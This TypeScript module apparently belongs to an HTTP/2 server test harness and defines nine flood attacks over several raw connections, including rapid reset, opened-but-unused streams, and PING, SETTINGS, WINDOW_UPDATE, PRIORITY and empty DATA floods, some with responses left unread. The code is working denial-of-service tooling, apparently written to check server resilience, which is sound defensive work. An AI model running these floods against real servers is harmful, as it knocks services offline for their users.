/** Frames that cost the sender nothing. */
import type { Attack, Target } from "../attack.ts";
import { callHeaders, Flag, Frame, frame, headerBlock, hello, settings, uint32 } from "../frames.ts";
import type { RawConnection } from "../raw-connection.ts";
import { endsOf } from "../verdict.ts";

const CONNECTIONS = 4;
const FRAMES = 50_000;
const FRAMES_A_WRITE = 500;
const WAIT_MS = 1_000;

/**
 * Sends `bytesOf` of 0, 1, 2, … on several connections, and if `deaf` does not read the responses.
 */
function flood(name: string, bytesOf: (index: number) => Uint8Array, { deaf = false } = {}): Attack {
  const attackOn = async (connection: RawConnection) => {
    if (deaf) connection.stopReading();
    await connection.write(hello);
    for (let sent = 0; sent < FRAMES && !connection.isClosed; sent += FRAMES_A_WRITE) {
      await connection.write(...Array.from({ length: FRAMES_A_WRITE }, (_, i) => bytesOf(sent + i)));
    }
    if (!deaf) await connection.closedWithin(WAIT_MS);
  };
  return {
    name,
    async run({ connect }: Target) {
      const connections = await Promise.all(Array.from({ length: CONNECTIONS }, connect));
      await Promise.all(connections.map(attackOn));
      return endsOf(connections);
    },
  };
}

const headers = headerBlock(callHeaders("Consume"));

function openAndReset(index: number): Buffer {
  const stream = 2 * index + 1;
  return Buffer.concat([
    frame(Frame.HEADERS, Flag.END_HEADERS, stream, headers),
    frame(Frame.RST_STREAM, 0, stream, uint32(8)),
  ]);
}

function openOnly(index: number): Buffer {
  return frame(Frame.HEADERS, Flag.END_HEADERS, 2 * index + 1, headers);
}

const ping = frame(Frame.PING, 0, 0, new Uint8Array(8));
const settingsChange = settings([3, 100]);
const windowUpdate = frame(Frame.WINDOW_UPDATE, 0, 0, uint32(1));
const priority = frame(Frame.PRIORITY, 0, 1, new Uint8Array(5));

export const floods: readonly Attack[] = [
  flood("rapid reset: calls opened and reset at once", openAndReset),
  flood("calls opened without a request", openOnly),
  flood("PING flood", () => ping),
  flood("PING flood, answers never read", () => ping, { deaf: true }),
  flood("SETTINGS flood", () => settingsChange),
  flood("SETTINGS flood, answers never read", () => settingsChange, { deaf: true }),
  flood("WINDOW_UPDATE flood", () => windowUpdate),
  flood("PRIORITY flood", () => priority),
  flood("empty DATA frames", (index) => (index === 0 ? openOnly(0) : frame(Frame.DATA, 0, 1))),
];
